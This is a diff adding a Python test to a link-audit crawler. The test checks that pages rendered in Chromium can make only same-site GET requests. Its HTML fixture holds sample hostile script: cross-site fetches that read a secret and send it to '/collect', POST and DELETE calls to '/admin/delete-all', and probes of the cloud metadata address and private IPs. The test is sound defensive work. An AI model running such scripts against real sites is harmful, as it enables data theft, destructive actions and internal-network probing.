@@ -408,3 +408,88 @@ def test_chromium_is_looked_up_on_path_and_a_bad_choice_is_named(tmp_path: Path)
     assert browser_problem({"PATH": str(tmp_path)}) is None
     problem = browser_problem({CHROMIUM_ENV: str(tmp_path / "nope"), "PATH": str(tmp_path)})
     assert problem and str(tmp_path / "nope") in problem
+
+
+# -- what a page's scripts may reach -------------------------------------------------
+
+# {other} is another server on 127.0.0.1: a different site as far as scope goes.
+REACHING = """<!doctype html><html><head><meta charset="utf-8"><title>Reach</title></head>
+<body><p>Hello</p>
+<script>
+var other = '{other}';
+var quiet = function () {};
+fetch(other + '/steal', {mode: 'no-cors'}).catch(quiet);                  // (a)
+fetch('/admin/delete-all', {method: 'POST', body: 'all=1'}).catch(quiet); // (b)
+var xhr = new XMLHttpRequest(); xhr.open('DELETE', '/admin/delete-all'); xhr.send();
+navigator.sendBeacon('/admin/delete-all', 'x');
+fetch('http://169.254.169.254/latest/meta-data/').catch(quiet);           // (c)
+fetch('http://10.0.0.1/').catch(quiet);
+fetch('http://[::1]:' + location.port + '/').catch(quiet);
+fetch(other + '/secret').then(function (r) { return r.text(); })         // (d)
+  .then(function (t) { return fetch('/collect?d=' + encodeURIComponent(t)); })
+  .catch(function () { return fetch('/collect?failed=1'); });
+try { new WebSocket(other.replace('http', 'ws') + '/socket'); } catch (e) {}
+var form = document.createElement('form');
+form.method = 'post'; form.action = '/admin/delete-all';
+document.body.appendChild(form); form.submit();
+window.open(other + '/popup');
+</script></body></html>"""
+
+
+@contextmanager
+def recording_server(routes: dict[str, str]) -> Iterator[tuple[str, list[str]]]:
+    """A server on 127.0.0.1 that records every request, whatever its method."""
+    seen: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def _answer(self) -> None:
+            seen.append(f"{self.command} {self.path}")
+            body = routes.get(self.path, "secret-answer-7c1d").encode()
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html; charset=utf-8")
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        do_GET = do_POST = do_PUT = do_DELETE = do_OPTIONS = do_HEAD = _answer  # noqa: N815
+
+        def log_message(self, format: str, *args: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_address[1]}", seen
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def test_a_rendered_page_reaches_only_its_own_site_with_get(browser: str,
+                                                            tmp_path: Path) -> None:
+    with recording_server({}) as (other, other_seen), \
+            recording_server({"/reach.html": REACHING.replace("{other}", other)}) as (own, seen):
+        report = tmp_path / "report.xlsx"
+        result = run_linkaudit("crawl", "--render", f"{own}/reach.html", "--depth", "0",
+                               "-o", str(report), cwd=tmp_path)
+        assert result.returncode == 0, result.stdout + result.stderr
+        # (a), (d), the socket and the popup: another port is another site.
+        assert other_seen == []
+        # (b): only GETs reached the page's own server, and nothing it did not serve itself.
+        assert all(line.startswith("GET ") for line in seen), seen
+        assert "secret-answer" not in json.dumps(seen)
+        # The script ran: the cross-site read failed, and its same-site GET was allowed.
+        assert "GET /collect?failed=1" in seen
+    record = read_jsonl(report.with_name("report.pages.jsonl"))[0]
+    assert record["rendered"] is True
+    note = record["note"]
+    assert note.startswith("rendered with Chromium; blocked 0 request(s) to affiliate URLs, ")
+    other_count = int(note.split(" and ")[1].split()[0])
+    # (a) (b) ×3 (c) ×3 (d) and the socket at least; the form post and the popup are
+    # navigations or stopped in the page.
+    assert other_count >= 9, note
+    assert "other request(s) (another site, a private address, or not GET)" in note
+    pages_sheet = {row["URL"]: row["Note"] for row in sheet_rows(report, "Pages")}
+    assert pages_sheet[f"{own}/reach.html"] == note
